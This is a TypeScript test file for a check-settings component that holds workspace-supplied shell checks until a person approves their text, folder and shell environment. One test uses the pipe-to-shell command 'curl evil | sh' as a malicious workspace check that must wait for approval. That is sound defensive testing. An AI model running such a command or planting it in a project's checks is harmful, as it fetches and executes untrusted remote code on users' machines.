import { test } from 'node:test';
import assert from 'node:assert/strict';
import { CheckSettings } from '../../../../../src/views/review/checks/checkSettings.ts';
import type { Settings } from '../../../../../src/views/settings.ts';

interface World {
  readonly settings: CheckSettings;
  readonly memory: Map<string, unknown>;
  readonly values: {
    own: readonly unknown[];
    brought: readonly unknown[];
    shell?: string;
    onDemand?: boolean;
  };
}

function world(own: readonly unknown[], brought: readonly unknown[]): World {
  const memory = new Map<string, unknown>();
  const values: World['values'] = { own, brought };
  const memento = {
    get: (key: string) => memory.get(key),
    update: (key: string, value: unknown) => Promise.resolve(void memory.set(key, value)),
  };
  const settings = {
    get checks() {
      return values;
    },
    get broughtShell() {
      return values.shell ?? '';
    },
    get isCheckedOnDemand() {
      return values.onDemand === true;
    },
    setWorkspaceChecks: (checks: readonly unknown[]) => Promise.resolve(void (values.brought = checks)),
  };
  return { settings: new CheckSettings(memento as never, settings as never as Settings), memory, values };
}

const shown = ({ settings }: World): readonly string[] =>
  settings.list.map(({ name, command, isApproved }) => `${name}: ${command}${isApproved ? '' : ' (waits)'}`);

test('the user’s own checks run; those of the workspace wait until a person has approved their text', async () => {
  const it = world([{ name: 'test', command: 'npm test' }], [{ name: 'lint', command: 'npm run lint' }]);
  assert.deepEqual(shown(it), ['test: npm test', 'lint: npm run lint (waits)']);
  await it.settings.approve(it.settings.list, it.settings.broughtShell);
  assert.deepEqual(shown(it), ['test: npm test', 'lint: npm run lint']);
  it.values.brought = [{ name: 'lint', command: 'curl evil | sh' }];
  assert.deepEqual(shown(it), ['test: npm test', 'lint: curl evil | sh (waits)'], 'another text waits again');
  it.values.brought = [{ name: 'lint', command: 'npm run lint', cwd: 'elsewhere' }];
  assert.deepEqual(shown(it).at(-1), 'lint: npm run lint (waits)', 'and so does another folder');
});

test('what the workspace gives to the shell is approved with the text, and waits again when it changes', async () => {
  const it = world([], [{ name: 'lint', command: 'npm run lint' }]);
  await it.settings.approve(it.settings.list, it.settings.broughtShell);
  it.values.shell = '{"env":{"PATH":"/shop/bin"}}';
  assert.deepEqual(shown(it), ['lint: npm run lint (waits)']);
  await it.settings.approve(it.settings.list, it.settings.broughtShell);
  assert.deepEqual(shown(it), ['lint: npm run lint']);
  it.values.shell = '{"env":{"PATH":"/shop/other"}}';
  assert.deepEqual(shown(it), ['lint: npm run lint (waits)']);
  it.values.shell = '';
  assert.deepEqual(shown(it), ['lint: npm run lint'], 'without it, it is as it was first approved');
});

test('a workspace cannot take the place of a check of the user', () => {
  assert.deepEqual(
    shown(world([{ name: 'test', command: 'npm test' }], [{ name: 'test', command: 'true' }])),
    ['test: npm test'],
  );
});

test('what is no check is left out', () => {
  const bad = [
    null,
    1,
    'npm test',
    [],
    {},
    { name: 'a' },
    { command: 'b' },
    { name: ' ', command: 'c' },
    { name: 'd', command: 'x\0y' },
    { name: 'e', command: 'x'.repeat(2_001) },
  ];
  assert.deepEqual(shown(world(bad, bad)), []);
  const [limits] = world([{ name: 'a', command: 'b', timeLimit: 1e9, files: 3 }], []).settings.list;
  assert.equal(limits?.timeLimit, 7_200);
  assert.equal(limits?.files, undefined);
});

test('a check that a person adds is approved', async () => {
  const it = world([], []);
  await it.settings.add({ name: 'test', command: 'npm test' });
  assert.deepEqual(shown(it), ['test: npm test']);
  it.values.shell = '{"env":{"PATH":"/shop/bin"}}';
  await it.settings.add({ name: 'lint', command: 'npm run lint' });
  assert.deepEqual(
    shown(it),
    ['test: npm test (waits)', 'lint: npm run lint (waits)'],
    'what the shell gets was not shown',
  );
});

test('a check on demand does not run at the end of a turn', () => {
  const it = world([{ name: 'test', command: 'a' }], [{ name: 'e2e', command: 'b', onDemand: true }]);
  assert.deepEqual(it.settings.atTurnEnd, ['test']);
  it.values.onDemand = true;
  assert.deepEqual(it.settings.atTurnEnd, [], 'as a setting of earlier versions says of all');
});
